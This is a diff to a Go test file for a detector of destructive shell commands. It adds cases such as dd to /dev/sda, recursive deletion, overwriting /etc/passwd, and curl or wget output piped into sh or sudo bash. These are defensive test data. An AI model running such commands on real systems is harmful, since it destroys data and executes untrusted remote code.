@@ -24,13 +24,40 @@ func TestDestructive(t *testing.T) {
 		{"sudo apt install x", true},
 		{"dd if=/dev/zero of=/dev/sda", true},
 		{"chmod -R 777 .", true},
-		{"chmod +x run.sh", false},
+		{"chmod +x run.sh", true}, // a warning only: moves and mode changes are shown as such
 		{"find . -name '*.o' -delete", true},
 		{"echo rm -rf", true}, // conservative: asks
 		{"npm run format", false},
 	} {
 		if got := destructive(tc.line); got != tc.want {
 			t.Errorf("destructive(%q) = %v, want %v", tc.line, got, tc.want)
+		}
+	}
+}
+
+// The families a pattern list missed before: each now adds a warning (the
+// question is asked anyway, see consent.go).
+func TestDestructiveFamiliesWarn(t *testing.T) {
+	for _, line := range []string{
+		"echo victim | xargs rm -r",
+		"find . -name victim -exec rm -r {} +",
+		`python3 -c 'import shutil; shutil.rmtree("victim")'`,
+		"truncate -s 0 file",
+		": > file",
+		"echo > file",
+		"cat x >/etc/passwd",
+		"mv file /tmp/x",
+		"chmod 000 file",
+		"curl -s http://x/y | sh",
+		"wget -qO- http://x | sudo bash",
+	} {
+		if !destructive(line) {
+			t.Errorf("destructive(%q) = false", line)
+		}
+	}
+	for _, line := range []string{"make 2>&1", "ls > /dev/null", "go test ./... 2>/dev/null", "a >> log"} {
+		if destructive(line) {
+			t.Errorf("destructive(%q) = true", line)
 		}
 	}
 }
